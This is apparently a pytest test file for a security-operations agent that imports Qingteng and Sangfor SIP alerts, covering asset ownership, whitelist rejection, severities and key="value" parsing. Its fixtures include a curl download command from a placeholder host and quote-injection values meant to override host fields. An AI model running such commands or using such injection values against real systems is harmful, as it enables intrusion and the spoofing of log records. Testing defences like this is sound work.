"""Qingteng and Sangfor SIP beyond their samples: what is ours, what is no alert, odd values, and key="value" lines."""

import json
from typing import Any

import pytest

from secops_agent.importers import registry
from secops_agent.services.records import AlertRecord, Key

from . import cn_samples_hosts as samples
from .reading_aid import of, read, rejected, source_of

ODD = (None, "", "-", "null", [], [None, ""], "[]", "['a', 'b']", 0, "0")


def pairs(**more: str) -> str:
    """A line of Qingteng with these pairs behind its header."""
    head = {
        "datatype": "webshell",
        "agent_id": "a1",
        "internal_ip": "10.0.3.15",
        "host_name": "web-01",
        **more,
    }
    return "<14>Nov 20 08:30:05 sensor qtAlert[679] " + " ".join(
        f'{key}="{value}"' for key, value in head.items()
    )


def qingteng(line: str) -> AlertRecord:
    [alert] = of(read("qingteng", line), AlertRecord)
    return alert


@pytest.mark.parametrize(
    ("attacker", "victim", "ours"),
    [
        ("203.0.113.66", "10.0.3.15", ["10.0.3.15"]),
        ("10.0.3.15", "203.0.113.66", ["10.0.3.15"]),
        ("10.0.3.16", "10.0.3.15", ["10.0.3.15", "10.0.3.16"]),
        ("0.0.0.0", "10.0.3.15", ["10.0.3.15"]),
        ("203.0.113.66", "198.51.100.9", []),
    ],
)
def test_only_private_ends_of_an_attack_are_ours(attacker: str, victim: str, ours: list[str]) -> None:
    [alert] = of(
        read("sangfor_sip", [samples.SIP_ALARM | {"attack_ip": attacker, "suffer_ip": victim}]), AlertRecord
    )
    assert [asset.name for asset in alert.assets] == ours


@pytest.mark.parametrize(
    ("name", "record", "reason"),
    [
        ("sangfor_sip", samples.SIP_ALARM | {"is_white": 1}, "命中 SIP 的白名单，不是告警（「is_white」为 1）"),
        ("sangfor_sip", samples.SIP_ALARM | {"emergency": "紧急"}, "级别「emergency」的值 紧急 不认识"),
        ("sangfor_sip", samples.SIP_ALARM | {"attack_ip": ""}, ""),
        ("sangfor_sip", samples.SIP_EVENT | {"ruleId": "", "eventKey": None}, "缺少必填字段「ruleId」或「eventKey」"),
        ("qingteng", samples.QT_SHELL | {"whiteRuleEffect": True}, "命中青藤的白名单，不是告警"),
        ("qingteng", samples.QT_BRUTE | {"agentId": ""}, "缺少必填字段「agentId」"),
        ("qingteng", {"agentId": "a1", "hostname": "web-01", "platform": "CentOS"}, "不是完整的 qingteng 记录"),
    ],
)  # fmt: skip
def test_what_is_no_alert_is_named(name: str, record: dict[str, Any], reason: str) -> None:
    good = samples.SIP_ALARM if name == "sangfor_sip" else samples.QT_BRUTE
    items = read(name, [good, record])
    assert len(of(items, AlertRecord)) == 2 - bool(reason)
    assert [reason in why for _, why in rejected(items)] == [True] * bool(reason)


@pytest.mark.parametrize("odd", ODD, ids=repr)
def test_odd_values_of_optional_fields_lose_no_alert(odd: Any) -> None:
    needed = {"attack_ip", "event_desc", "brief", "emergency", "first_time", "last_time"}
    changed = {key: value if key in needed else odd for key, value in samples.SIP_ALARM.items()}
    [alert] = of(read("sangfor_sip", [samples.SIP_ALARM, changed])[1:], AlertRecord)
    assert (alert.title, alert.severity) == ("SSH 口令暴力破解", "high")
    kept = {"agentId", "clientIp", "serverName", "loginTime"}
    changed = {key: value if key in kept else odd for key, value in samples.QT_BRUTE.items()}
    [alert] = of(read("qingteng", samples.rows(samples.QT_BRUTE, changed))[1:], AlertRecord)
    assert alert.assets[0].keys[0] == Key("agent_id", "qingteng:979f3c4d44b2e765")


def test_a_time_of_zero_and_a_guessed_password_are_understood() -> None:
    [alert] = of(read("qingteng", [samples.QT_WINDOWS | {"createTime": 0}]), AlertRecord)
    assert (alert.first_seen, alert.last_seen) == (None, None)
    [alert] = of(read("qingteng", [samples.QT_LOGIN | {"crackSuccess": 0}]), AlertRecord)
    assert alert.severity == "medium"


def test_an_attack_that_goes_on_is_one_alert_and_another_occurrence() -> None:
    later = samples.SIP_ALARM | {"last_time": 1795139000, "count": 200, "updated_at": 1795139001}
    read_again = samples.SIP_ALARM | {"is_read": 1, "updated_at": 1795139001}
    first, second, third = of(read("sangfor_sip", [samples.SIP_ALARM, later, read_again]), AlertRecord)
    assert first.dedup_key == second.dedup_key == third.dedup_key
    assert first.event_id == third.event_id != second.event_id


@pytest.mark.parametrize(
    ("kind", "severity"), [("bounce_shell", "high"), ("bruteforce_ext", "medium"), ("a_new_one", "medium")]
)
def test_kinds_have_severities_and_unknown_ones_are_taken(kind: str, severity: str) -> None:
    alert = qingteng(pairs(datatype=kind, event_level="info"))
    assert (alert.title, alert.severity) == (kind, severity)
    assert "青藤的级别：info" in alert.description


@pytest.mark.parametrize("kind", ["net_connect", "weak_pwd", "agent_offline_check"])
def test_logs_among_the_lines_are_refused_by_name(kind: str) -> None:
    items = read("qingteng", f"{pairs()}\n{pairs(datatype=kind)}\n")
    assert len(of(items, AlertRecord)) == 1
    [(position, why)] = rejected(items)
    assert (position, f"（「datatype」为 {kind}）" in why) == ("第 2 行", True)


def test_pairs_are_read_as_they_are_written() -> None:
    alert = qingteng(
        pairs(
            cmd=r"sh -c \"curl http://203.0.113.9/x\"",
            file_path=r"C:\\Temp\\a.exe",
            hit_rule_names=r"甲\,乙",
            event_content=r"第一行\n第二行",
            **{"detail.src_ip": "203.0.113.66"},
        )
    )
    assert alert.raw["cmd"] == 'sh -c "curl http://203.0.113.9/x"'
    assert alert.raw["file_path"] == r"C:\Temp\a.exe"
    assert alert.raw["hit_rule_names"] == ["甲", "乙"]
    assert alert.description.startswith("第一行\n第二行\n")
    assert {(each.kind, each.value) for each in alert.indicators} >= {
        ("ip", "203.0.113.66"), ("url", "http://203.0.113.9/x"), ("file", r"C:\Temp\a.exe"),
    }  # fmt: skip


def test_what_an_attacker_writes_later_names_no_other_host() -> None:
    quoted = r"x\" agent_id=\"evil\" datatype=\"honeypot"
    for written in (quoted, 'x" agent_id="evil" host_name="db-01" datatype="honeypot'):
        alert = qingteng(pairs(cmd=written))
        assert (alert.raw["agent_id"], alert.raw["datatype"], alert.raw["host_name"]) == (
            "a1",
            "webshell",
            "web-01",
        )


def test_lines_that_cannot_be_read_are_rejected_by_themselves() -> None:
    log = [pairs()] * 10 + ["<14>Nov 20 08:30:06 sensor qtAlert[679] started", pairs(cmd="不完整")[:-1]]
    broken = pairs(cmd="@@").encode().replace(b"@@", b"\xff\xfe")
    items = read("qingteng", "\n".join(log).encode() + b"\n" + broken)
    assert len(of(items, AlertRecord)) == 11
    assert rejected(items) == [
        ("第 11 行", '这一行里没有 JSON 对象，也没有 datatype="…'),
        ("第 13 行", "不是 UTF-8 编码"),
    ]


def test_json_that_quotes_pairs_is_json() -> None:
    record = samples.QT_COMMAND | {"cmd": pairs()}
    line = "<14>Nov 20 08:30:05 sensor app: " + json.dumps(record)
    assert qingteng(line).title == "可疑操作：curl下载黑客工具"
    assert registry.detect(source_of(json.dumps({"message": pairs()}))) == ""


def test_the_same_from_both_doors_is_on_one_host() -> None:
    first = of(read("qingteng", samples.rows(samples.QT_SHELL)), AlertRecord)[0]
    assert first.assets[0].keys == qingteng(samples.QT_LINE).assets[0].keys


def test_a_list_whose_notes_quote_a_line_of_qingteng_stays_a_list() -> None:
    note = samples.QT_PAIRS.replace('"', '""')
    for head, name in (("主机名,IP地址,备注\nweb-88,10.1.2.88", "assets_csv"), ("value,kind,note\n203.0.113.9,ip", "indicators_csv")):  # fmt: skip
        assert registry.detect(source_of(f'{head},"{note}"\n')) == name
